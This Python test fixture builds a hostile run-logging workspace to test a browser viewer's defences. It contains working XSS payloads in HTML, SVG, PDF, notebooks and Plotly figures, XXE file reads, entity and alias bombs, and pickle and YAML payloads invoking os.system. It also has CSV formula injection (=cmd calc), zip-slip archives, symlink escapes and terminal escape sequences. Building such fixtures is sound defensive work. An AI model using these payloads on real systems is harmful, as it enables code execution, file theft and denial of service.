"""A workspace that means harm: files, archives and links of every kind that has hurt a site of logged runs.

Whatever runs sets ``__pwned``, changes the title and calls the server at ``home``; whatever reads a file outside finds
``CANARY`` there; whatever is unpickled or executed makes the file ``executed``.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import stat
import zipfile
from pathlib import Path

from tests.browser.extremes import (
    CONTROL,
    RIGHT_TO_LEFT,
    SCRIPT,
    TEMPLATE,
    curve,
    lines,
    metrics,
    picture,
    write_hostile,
)
from tests.browser.extremes import write_run as write

CANARY = "this stands outside of every run"
DEEP = 20_000
"""How deep a document is nested that is to break its reader."""

ACTIVE = (
    *("x.html", "x.htm", "x.shtml", "x.stm", "x.php", "x.asp", "x.jsp", "x.cgi", "x.hta", "x.htc", "x.js", "x.mjs"),
    *("x.wasm", "x.txt", "x.md", "x.log", "x.bin", "x.html~", "x.html.bak", "index.html", "noext", "service-worker.js"),
    *(".htaccess", "_headers", "_redirects", "web.config", ".well-known/x", "manifest.json", "_worker.js", "x.php.png"),
)
"""Names by which a server or a browser would run a page."""

Files = dict[str, str | bytes]


class Attack:
    """The texts that run, or call, with the address to call."""

    def __init__(self, home: str) -> None:
        self.url = f"{home}called"
        self.run = f"(top||self).__pwned=1;document.title='pwned';new Image().src='{self.url}?run';alert(1)"
        self.script = f"<script>{self.run}</script>"
        self.handlers = (
            f'<img src="{self.url}?img" onerror="{self.run}"><svg onload="{self.run}"></svg>'
            f'<iframe src="javascript:{self.run}"></iframe><iframe srcdoc="<script>{self.run}</script>"></iframe>'
            f'<details open ontoggle="{self.run}">x</details><video src="{self.url}?video" autoplay></video>'
            f'<object data="{self.url}?object"></object><embed src="{self.url}?embed">'
            f'<math><maction actiontype="statusline#{self.url}" xlink:href="javascript:{self.run}">x</maction></math>'
            f'<a href="javascript:{self.run}" ping="{self.url}?ping">a</a>'
        )
        self.head = (
            f'<base href="{self.url}"><link rel="stylesheet" href="{self.url}?css">'
            f'<link rel="prefetch" href="{self.url}?prefetch"><link rel="icon" href="{self.url}?icon">'
            f"<style>@import url({self.url}?import);body{{background:url({self.url}?background)}}</style>"
        )
        self.leaving = f'<meta http-equiv="refresh" content="0;url={self.url}?refresh">'
        self.page = f"<!doctype html>{self.head}{self.script}{self.handlers}"
        self.svg = (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" '
            f'onload="{self.run}"><script>{self.run}</script><style>@import url({self.url}?svg-import);</style>'
            f'<image href="{self.url}?svg-image" width="9" height="9"/><use xlink:href="{self.url}?svg-use#a"/>'
            f'<a href="javascript:{self.run}"><rect width="40" height="20"><animate attributeName="href" '
            f'to="javascript:{self.run}" begin="0s"/></rect></a><foreignObject width="9" height="9">'
            f'<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{self.url}?svg-frame"/>'
            f"<script>{self.run}</script></body></foreignObject></svg>"
        )
        self.xhtml = (
            f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>'
            f"<script>{self.run}</script></head><body>x</body></html>"
        )
        self.xslt = (
            '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" '
            'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>'
            f"<script>{self.run}</script></body></html></xsl:template></xsl:stylesheet></x>"
        )
        self.pdf = (
            "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.pwned=1)>>>>endobj\n"
            "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]"
            f"/AA<</O<</S/URI/URI({self.url}?pdf)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n{self.script}"
        )


def entities(outside: Path) -> str:
    """XML whose entities explode, and read a file."""
    bomb = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(12))
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e0 "x">{bomb}<!ENTITY read SYSTEM "{outside.as_uri()}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&read;&e12;</text></svg>'
    )


def write_outputs(root: Path, attack: Attack, outside: Path) -> None:
    """Output files that browsers run, by their names or by what they begin with."""
    message = f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{attack.page}"
    mathml = f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:{attack.run}">x</mi></math>'
    own: Files = {
        **dict.fromkeys(("xhtml", "xht", "xml", "rdf", "atom"), attack.xhtml),
        **dict.fromkeys(("svg", "svg.txt.svg"), attack.svg),
        **dict.fromkeys(("xsl", "xslt", "fo.xml"), attack.xslt),
        **dict.fromkeys(("mht", "mhtml", "eml"), message),
        **dict.fromkeys(("mml", "mathml"), mathml),
        **dict.fromkeys(("pdf", "fdf"), attack.pdf),
        "svgz": gzip.compress(attack.svg.encode(), mtime=0),
        "html.gz": gzip.compress(attack.page.encode(), mtime=0),
        "swf": b"FWS\x06" + attack.page.encode(),
        "entities.xml": entities(outside),
        "utf16.html": attack.page.encode("utf-16"),
        "utf7.html": "+ADw-script+AD4-top.__pwned=1+ADw-/script+AD4-",
        "comment.html": f"<!-- {attack.page}",
        "leaving.html": attack.leaving + attack.page,
        "gif": b"GIF89a/*" + attack.page.encode() + b"*/",
        "png": attack.page,
        "json": attack.page,
        "csv": f'=HYPERLINK("{attack.url}"),@SUM(1),+1,-1\n{attack.page}',
        "pkl": b"cos\nsystem\n(S'touch " + os.fsencode(root.parent / "executed") + b"'\ntR.",
    }
    own["pt"] = own["joblib"] = own["npy"] = own["pkl"]
    files: Files = {f"artifacts/{name}": attack.page for name in ACTIVE}
    files |= {f"artifacts/own.{ending}": content for ending, content in own.items()}
    write(root, "hostile", "outputs", {"status": "Completed"}, {"metrics.csv": metrics(curve("loss")), **files})


def write_media(root: Path, attack: Attack, outside: Path) -> None:
    """Images, pages, texts and figures that would run, call or explode."""
    drawings: Files = {
        "a.svg": attack.svg,
        "b.svg": entities(outside),
        "c.svg": f"<!--{attack.svg}",
        "d.svg": attack.page,
    }
    huge = picture().replace((40).to_bytes(4, "big") + (30).to_bytes(4, "big"), (60_000).to_bytes(4, "big") * 2, 1)
    drawings |= {"e.png": huge, "f.gif": b"GIF89a" + attack.page.encode(), "g.png": picture() + attack.page.encode()}
    pages: Files = {
        "a.html": attack.page,
        "b.html": attack.leaving + attack.handlers,
        "c.html": attack.page.encode("utf-16"),
        "d.html": f"<plaintext>{attack.page}",
        "e.xhtml": attack.xhtml,
        "f.html": f"<form id=f action={attack.url}?form><button autofocus onfocus=f.submit()></form>{attack.script}",
        "g.txt": attack.page,
    }
    listed = [{"name": "drawing", "step": at, "file": f"images/{name}"} for at, name in enumerate(drawings)]
    named = [{"name": attack.script, "step": at, "file": f"media/{name}"} for at, name in enumerate(pages)]
    link = (
        f'<a href="javascript:{attack.run}">{attack.script}</a><img src="{attack.url}?figure" onerror="{attack.run}">'
    )
    layout = {
        "title": {"text": link},
        "template": {"layout": {"annotations": [{"text": link, "captureevents": True}]}},
        "annotations": [{"text": link, "x": 1, "y": 1, "hovertext": link}],
        "images": [{"source": f"{attack.url}?layout", "xref": "paper", "yref": "paper", "sizex": 1, "sizey": 1}],
        "updatemenus": [{"buttons": [{"label": link, "method": "relayout", "args": ["title.text", link]}]}],
        "mapbox": {"style": f"{attack.url}?style", "accesstoken": "x"},
        "geo": {"scope": "europe"},
    }
    traces = [
        {"type": "scatter", "x": [link, "b"], "y": [1, 2], "text": [link, link], "hovertemplate": link},
        *({"type": kind, "lat": [1], "lon": [2]} for kind in ("scattergeo", "scattermapbox", "scattermap")),
        {"type": "image", "source": f"{attack.url}?trace"},
        {"type": "table", "header": {"values": [link]}, "cells": {"values": [[link]]}},
    ]
    config = {"plotlyServerURL": attack.url, "topojsonURL": attack.url, "showSendToCloud": True}
    figures = [{"data": [trace], "layout": layout, "config": config} for trace in traces]
    charts = lines([{"type": "plotly", "step": at, "time": 1.0, "data": data} for at, data in enumerate(figures)])
    files: Files = {
        "metrics.csv": metrics(curve("loss")),
        "images.jsonl": lines(listed),
        "media.jsonl": lines(named),
        "charts/figure.jsonl": charts,
    }
    files |= {f"images/{name}": content for name, content in drawings.items()}
    files |= {f"media/{name}": content for name, content in pages.items()}
    write(root, "hostile", "media", {"status": "Completed"}, files)


def write_documents(root: Path, attack: Attack, outside: Path) -> None:
    """YAML, JSON, Markdown, notebooks, logs and archives."""
    aliases = "a0: &a0 [x, x]\n" + "".join(f"a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * 9)}]\n" for n in range(12))
    executed = root.parent / "executed"
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {kind: content}}
        for kind, content in (
            ("text/html", attack.page + attack.leaving),
            ("image/svg+xml", attack.svg),
            ("application/javascript", attack.run),
            ("text/markdown", f"[a](javascript:{attack.run}) {attack.handlers}"),
            ("text/latex", f"$\\href{{javascript:{attack.run}}}{{x}}$"),
            ("image/png", f'" onerror="{attack.run}'),
            ("application/vnd.plotly.v1+json", {"data": [{"type": "scatter", "y": [1], "text": attack.handlers}]}),
        )
    ]
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": attack.page},
        {"cell_type": "raw", "metadata": {}, "source": attack.page},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": attack.page, "outputs": outputs},
    ]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    markdown = (
        f"{attack.page}\n\n[a](javascript:{attack.run}) [b](data:text/html,{attack.script}) ![c]({attack.url}?markdown)"
        f"\n\n[d]: vbscript:x\n[d] <javascript:{attack.run}> ![e](file://{outside}) [f](//{attack.url[5:]})\n\n"
        + "[" * 2_000
        + "\n\n"
        + "*_" * 2_000
    )
    log = (
        f"\x1b]8;;javascript:{attack.run}\x1b\\link\x1b]8;;\x1b\\ \x1b]8;;{attack.url}?osc\x07out\x1b]8;;\x07\n"
        f"\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07\x1bPq{attack.script}\x1b\\\x9b31m\x1b[{'1;' * 5_000}m\n"
        f"\x1b[999999999C\x1b[2J{attack.page}{RIGHT_TO_LEFT}{CONTROL}\n" + "\x1b[" * 5_000
    )
    files: Files = {
        "metrics.csv": metrics(curve("loss")),
        "artifacts/aliases.yaml": aliases,
        "artifacts/tags.yaml": f"a: !!python/object/apply:os.system ['touch {executed}']\nb: !!js/function 'x'\n",
        "artifacts/loop.yaml": "a: &a\n  b: *a\n  <<: *a\n",
        "artifacts/numbers.yaml": f"a: 1e999999999\nb: {'9' * 6_000}\nc: 190:20:30\nd: 0x{'f' * 6_000}\ne: .inf\n",
        "artifacts/deep.yaml": "[" * DEEP,
        "artifacts/deep.json": "[" * DEEP + "]" * DEEP,
        "artifacts/numbers.json": f'{{"a": {"9" * 6_000}, "b": 1e999999, "__proto__": {{"pwned": 1}}}}',
        "artifacts/book.ipynb": json.dumps(notebook),
        "artifacts/report.md": markdown,
        "README.md": markdown,
        "logs/console.log": log,
        "logs/deep/long.log": "x" * 2_000_000 + attack.page,
        "snapshot.zip": archive(attack, outside),
    }
    params = {"__proto__": {"polluted": attack.script}, "constructor": TEMPLATE, attack.handlers: attack.run}
    formulas = {"=cmd|' /C calc'!A0": "=1+1", "@SUM(1)": "@SUM(1)", "+1": "+1", "-1": "-1", "\t=1": "\t=1"}
    document = {"status": "Completed", "name": SCRIPT, "params": params | formulas, "tags": formulas}
    write(root, "hostile", "documents", document, files)
    deep = write(root, "hostile", "deep", None, {"metrics.csv": metrics(curve("loss"))})
    (deep / "run.json").write_text(f'{{"format": 1, "params": {"[" * DEEP}{"]" * DEEP}}}', encoding="utf-8")


def archive(attack: Attack, outside: Path) -> bytes:
    """A snapshot that leaves its folder, links out of it, and explodes."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as out:
        for name in ("../../../up.py", "/absolute.py", "C:\\windows.py", "..\\..\\up.py", "a/../../b.py", "train.py"):
            out.writestr(name, attack.page)
        link = zipfile.ZipInfo("link.py")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        out.writestr(link, str(outside))
        out.writestr("bomb.py", b"0" * 80_000_000)
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as nested:
            nested.writestr("bomb.py", b"0" * 10_000_000)
        out.writestr("nested.zip", inner.getvalue())
    return data.getvalue()


def write_links(root: Path, outside: Path) -> None:
    """Links out of the folder, and files that never end: FIFOs, sockets, devices."""
    away = outside.parent / "away"
    away.mkdir()
    (away / "page.html").write_text(CANARY, encoding="utf-8")
    named = ("/etc/hostname", str(outside), "../../../outside.txt", "images/../../../../outside.txt", "..\\outside.txt")
    listed = [{"name": "away", "step": at, "file": file} for at, file in enumerate(named)]
    git = {"diff": "../../../outside.diff", "commit": "0" * 40}
    run = write(
        root,
        "hostile",
        "links",
        {"status": "Completed", "environment": {"git": git}, "snapshot": str(outside)},
        {"metrics.csv": metrics(curve("loss")), "images.jsonl": lines(listed), "media.jsonl": lines(listed)},
    )
    for folder in ("artifacts", "logs", "images", "tables", "charts", "media"):
        (run / folder).mkdir(exist_ok=True)
        (run / folder / "link.txt").symlink_to(outside)
        (run / folder / "relative.jsonl").symlink_to(os.path.relpath(outside, run / folder))
        (run / folder / "folder").symlink_to(away)
        (run / folder / "zero.log").symlink_to("/dev/zero")
        (run / folder / "itself").symlink_to("itself")
        os.mkfifo(run / folder / "pipe.txt")
    for name in ("metrics.pipe-1-aaaa.csv", "README.md", "series.json", "snapshot.zip"):
        os.mkfifo(run / name)
    other = write(root, "hostile", "pipes", None, {"metrics.csv": metrics(curve("loss"))})
    os.mkfifo(other / "run.json")
    here = os.getcwd()
    os.chdir(run / "artifacts")  # The path of a socket may have 107 characters.
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("socket.txt")
    finally:
        os.chdir(here)
    linked = root / "hostile-links"
    linked.mkdir()
    (linked / "experiment.json").symlink_to(outside)
    (linked / "README.md").symlink_to(outside)


def write_corpus(root: Path, home: str) -> None:
    """Write the whole workspace into a folder that is not there yet; ``home`` is the address that it calls."""
    root.mkdir(parents=True)
    outside = root.parent / "outside.txt"
    attack = Attack(home)
    write_hostile(root)
    outside.write_text(CANARY, encoding="utf-8")
    outside.with_suffix(".diff").write_text(CANARY, encoding="utf-8")
    write_outputs(root, attack, outside)
    write_media(root, attack, outside)
    write_documents(root, attack, outside)
    write_links(root, outside)
    about = {"format": 1, "name": attack.script, "description": attack.page, "tags": {attack.handlers: attack.run}}
    (root / "hostile" / "experiment.json").write_text(json.dumps(about), encoding="utf-8")
    (root / "hostile" / "README.md").write_text(attack.page + attack.leaving, encoding="utf-8")
    view = {"name": attack.script, "query": attack.handlers}
    compared = {"name": "pair", "title": attack.script, "text": attack.page}
    settings = {
        "title": attack.script,
        "description": attack.page,
        "experiments": {"hostile": {"description": attack.handlers, "views": [view]}},
        "comparisons": [{**compared, "runs": ["hostile/documents", "hostile/media"]}],
    }
    (root / "runpages.yml").write_text(json.dumps(settings), encoding="utf-8")
